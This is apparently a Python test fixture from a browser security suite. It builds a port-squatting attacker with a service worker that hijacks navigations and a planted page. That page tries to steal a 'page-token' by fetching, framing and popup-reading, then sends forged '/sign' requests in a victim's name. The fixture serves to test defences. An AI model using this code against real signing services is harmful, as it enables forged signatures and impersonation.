"""What a program that held the old component's port before us leaves in a browser."""

from tests.browser.attacks.squatter import Squatter

# It stands where our popup is asked for and is of one origin with us: it lies about the caller in every way it has.
# The last way that it tries is the only one that a script in our place has: to take the token out of a window of ours,
# which it can open once the person has clicked on something.
_PLANTED = """<!DOCTYPE html><meta charset="utf-8"><title>planted</title><button id="go">go</button>
<script type="module">
const tell = (name, value) => opener.postMessage({{ planted: name, value }}, "*");
const tokenIn = (text) => /name="page-token" content="([^"]+)"/.exec(text)?.[1] ?? "none";
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function sign(token) {{
  const headers = {{ "x-cardlogin-page": token, "x-cardlogin-origin": "{victim}" }};
  const answer = await fetch("/sign", {{ method: "POST", headers, body: 'tbsPackage={ask}' }});
  return answer.text();
}}
const ways = {{
  async guessed() {{ return sign("A".repeat(43)); }},
  async fetched() {{ return sign(tokenIn(await (await fetch("/popupForm", {{ cache: "reload" }})).text())); }},
  async framed() {{
    const frame = document.createElement("iframe");
    frame.src = "/popupForm?framed";
    document.body.append(frame);
    await later(1000);
    return sign(tokenIn(frame.contentDocument.documentElement.innerHTML));
  }},
  async opened() {{
    await new Promise((resolve) => document.querySelector("#go").addEventListener("click", resolve, {{ once: true }}));
    const other = open("/ChtPopupForm?mine", "other");
    await later(1500);
    return sign(tokenIn(other.document.documentElement.innerHTML));
  }},
}};
if (window.name !== "other" && window.top === window) {{
  tell("begun", location.origin);
  for (const [name, way] of Object.entries(ways)) {{
    await way().then((value) => tell(name, value), (error) => tell(name, `${{error}}`));
  }}
  tell("done", location.origin);
}}
</script>"""
_HOME = """<!DOCTYPE html><meta charset="utf-8"><title>squatter</title><script type="module">
await navigator.serviceWorker.register("/worker.js");
await navigator.serviceWorker.ready;
while (!navigator.serviceWorker.controller) await new Promise((resolve) => setTimeout(resolve, 20));
opener.postMessage({ planted: "worker" }, "*");
</script>"""
_WORKER = """const page = {page!r};
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {{
  const from = event.request.referrer;
  if (event.request.mode !== "navigate" || from.startsWith(location.origin)) return;
  event.respondWith(new Response(page, {{ headers: {{ "content-type": "text/html" }} }}));
}});"""
CACHED_PICTURE = "kept for a year"


def old_squatter(port: int, victim: str, ask: str) -> Squatter:
    """It, on the old component's port; `ask` is what it wants in the victim's name, as JSON."""
    page = _PLANTED.format(victim=victim, ask=ask)
    squatter = Squatter(port)
    squatter.pages = {
        "/": ("text/html", _HOME),
        "/worker.js": ("text/javascript", _WORKER.format(page=page)),
        "/popupForm": ("text/html", page),
        "/p11Image.bmp": ("text/plain", CACHED_PICTURE),
    }
    return squatter
